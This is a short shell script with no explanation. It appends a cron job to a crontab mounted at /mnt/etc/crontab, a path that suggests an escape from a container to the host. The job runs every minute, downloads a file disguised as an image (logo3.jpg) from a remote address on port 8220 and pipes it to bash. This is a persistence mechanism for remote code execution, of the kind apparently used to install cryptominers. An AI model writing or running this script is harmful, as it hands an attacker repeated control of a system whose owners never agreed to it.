#!/bin/sh
echo '*/1 * * * * curl -s http://192.0.2.1:8220/logo3.jpg | bash' >> /mnt/etc/crontab
